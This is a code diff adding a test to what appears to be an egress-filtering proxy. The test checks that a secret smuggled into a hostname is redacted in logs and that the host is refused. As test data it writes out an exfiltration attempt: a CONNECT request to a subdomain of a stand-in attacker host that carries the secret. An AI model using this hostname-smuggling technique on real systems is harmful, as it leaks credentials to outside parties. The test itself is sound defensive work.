@@ -128,6 +128,16 @@ def way(tmp_path: Path) -> Iterator[Open]:
         egress.__exit__()
 
 
+def test_a_secret_in_the_name_of_a_host_is_not_written_down(tmp_path: Path) -> None:
+    with Egress("allow:allowed.example", tmp_path, secrets=["Sk-S3cret"]) as egress:
+        out = Way(egress, tmp_path)
+        out.say(b"CONNECT Sk-S3cret.evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
+        (note,) = out.notes()
+        summary = egress.summary()
+    assert note["host"] == "***.evil.example"
+    assert summary["refused_hosts"] == {"***.evil.example:443": 1}
+
+
 def test_a_listed_host_is_reached_and_told_what_was_asked(way: Open, server: Any) -> None:
     port = server.server_port
     out = way(f"allow:host.docker.internal:{port}")
